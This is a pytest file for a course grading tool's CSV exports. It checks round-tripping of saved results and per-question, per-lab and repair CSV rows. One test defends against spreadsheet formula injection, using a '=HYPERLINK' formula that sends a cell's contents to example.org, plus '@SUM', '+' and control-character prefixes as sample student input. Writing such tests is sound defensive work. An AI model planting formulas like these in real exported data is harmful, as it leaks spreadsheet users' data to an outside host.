"""Saved results and the CSV exports: a row per question with its reason, per lab with its total, per repair."""

import csv

from course_utils.instructor.grading.cells import RunStatus
from course_utils.instructor.grading.exports import read_results, write_exports, write_results
from course_utils.instructor.grading.repair import Repair
from course_utils.instructor.grading.scoring import GradedLab, QuestionResult

ANN = GradedLab(
    "ann",
    "lab1",
    [
        QuestionResult("ann", "lab1", "q1", 2.0, 2.0, "passed", ""),
        QuestionResult("ann", "lab1", "q2", 0.0, 3.0, "failed", "AssertionError: no, because, commas"),
    ],
    [Repair("q2", "restored points (20 -> 3)")],
    RunStatus.OK,
)
BOB = GradedLab(
    "bob",
    "lab1",
    [QuestionResult("bob", "lab1", "q1", 0.0, 2.0, "not run", "kernel died")],
    [],
    RunStatus.KERNEL_DIED,
    "x",
)


def rows(path):
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_results_survive_a_round_trip(tmp_path):
    for lab in (BOB, ANN):
        write_results(lab, tmp_path / lab.student / lab.lab)
    assert read_results(tmp_path) == [ANN, BOB]


def test_csv_exports(tmp_path):
    write_exports([BOB, ANN], tmp_path)
    questions = rows(tmp_path / "grades_by_question.csv")
    assert [row["student"] for row in questions] == ["ann", "ann", "bob"]
    assert questions[1] == {
        "student": "ann",
        "lab": "lab1",
        "question": "q2",
        "points": "0.0",
        "max_points": "3.0",
        "status": "failed",
        "reason": "AssertionError: no, because, commas",
    }
    assert rows(tmp_path / "grades.csv") == [
        {"student": "ann", "lab": "lab1", "points": "2.0", "max_points": "5.0", "run": "ok"},
        {"student": "bob", "lab": "lab1", "points": "0.0", "max_points": "2.0", "run": "kernel died"},
    ]
    assert rows(tmp_path / "repairs.csv") == [
        {"student": "ann", "lab": "lab1", "cell": "q2", "action": "restored points (20 -> 3)"}
    ]


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(tmp_path):
    # a cell id and a reason chosen by the student's code; the numbers stay numbers
    formula = '=HYPERLINK("https://example.org/?"&A1, "grade")'
    lab = GradedLab(
        "+ann",
        "lab1",
        [QuestionResult("+ann", "lab1", "q1", -1.0, 2.0, "failed", "@SUM(1+1)"), *ANN.results[:1]],
        [Repair(formula, "removed grading metadata from an extra cell"), Repair("\tq", "x"), Repair("\rq", "-y")],
        RunStatus.OK,
    )
    write_exports([lab], tmp_path)
    (repair, tab, carriage), question = rows(tmp_path / "repairs.csv"), rows(tmp_path / "grades_by_question.csv")[0]
    assert (repair["student"], repair["cell"]) == ("'+ann", "'" + formula)
    assert (tab["cell"], carriage["cell"], carriage["action"]) == ("'\tq", "'\rq", "'-y")
    assert (question["reason"], question["points"]) == ("'@SUM(1+1)", "-1.0")
